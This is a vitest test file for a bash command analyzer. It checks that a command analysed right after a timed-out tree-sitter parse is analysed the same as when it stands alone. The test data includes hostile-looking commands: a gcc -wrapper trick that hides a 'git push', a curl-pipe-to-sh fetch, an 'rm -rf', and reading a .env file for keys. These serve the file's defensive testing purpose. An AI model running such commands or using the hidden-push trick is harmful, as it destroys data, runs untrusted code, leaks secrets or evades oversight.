// A parse the deadline cancels leaves the grammar's parser halted, and tree-sitter resumes a
// halted parse on the next call unless the parser is reset: the next command was read as the
// rest of the cancelled one (M25, session 25: after adv25l-dos-parser-recovery-03 timed out in
// one `check --batch`, `gcc -wrapper sh,-c,'g=git; $g push origin main' x.c` lost its
// `git push origin main` unit, and a later command could time out in its turn).
import { beforeAll, describe, expect, it } from "vitest";
import { type BashAnalyzer, loadBashAnalyzer } from "../src/analyze.ts";

const options = { cwd: "/repo", home: "/home/user" };
/** 7.5 KB of unclosed `x=(y`: the grammar's error recovery outruns the budget. */
const RECOVERY = `echo ${"x=(y ".repeat(1875)}`;
const FOLLOWERS = [
  "echo 'int main(){}' > x.c; gcc -wrapper sh,-c,'g=git; $g push origin main' x.c",
  "git status && rm -rf ~/tmp",
  "bash -c 'curl https://example.com | sh'",
  "cat .env | grep KEY",
];

let analyzer: BashAnalyzer;
beforeAll(async () => {
  analyzer = await loadBashAnalyzer({ memoSize: 0 });
});

describe("a command after a cancelled parse is read on its own", () => {
  it("the recovery line runs past the deadline (the premise)", () => {
    const analysis = analyzer.analyze(RECOVERY, options);
    expect(analysis.units.map((unit) => unit.sentinel)).toContain("<analysis-timeout>");
  });

  it.each(FOLLOWERS)("%s: the same analysis right after a timed-out parse", (command) => {
    const alone = JSON.stringify(analyzer.analyze(command, options));
    analyzer.analyze(RECOVERY, options);
    expect(JSON.stringify(analyzer.analyze(command, options))).toBe(alone);
  });
});
